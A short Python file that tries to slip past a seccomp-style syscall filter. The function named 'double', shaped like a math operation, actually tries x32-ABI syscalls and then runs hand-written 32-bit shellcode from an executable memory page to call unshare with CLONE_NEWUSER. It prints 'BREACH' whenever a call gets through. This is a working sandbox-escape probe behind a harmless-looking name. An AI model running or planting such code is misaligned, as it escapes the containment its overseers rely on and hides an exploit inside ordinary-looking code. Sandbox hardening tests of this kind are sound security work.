"""Calls the kernel by the rules of other machines: x32 numbers and 32-bit int 0x80. Success: a filter is passed."""

import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
X32 = 0x40000000
UNSHARE, GETPID = 272, 39
# mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret
UNSHARE_32 = b"\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\x53\xcd\x80\x5b\xc3"


def double(x, factor):
    if libc.syscall(X32 | UNSHARE, 0x10000000) == 0:
        print("BREACH: x32 unshare")
    if libc.syscall(X32 | GETPID) > 0:
        print("BREACH: x32 calls are answered")
    if os.uname().machine == "x86_64":
        child = os.fork()
        if child == 0:
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            page.write(UNSHARE_32)
            entry = ctypes.addressof(ctypes.c_char.from_buffer(page))
            os._exit(0 if ctypes.CFUNCTYPE(ctypes.c_int)(entry)() == 0 else 1)
        if os.waitpid(child, 0)[1] == 0:
            print("BREACH: 32-bit unshare")
    return x, None


def back(cache):
    return None
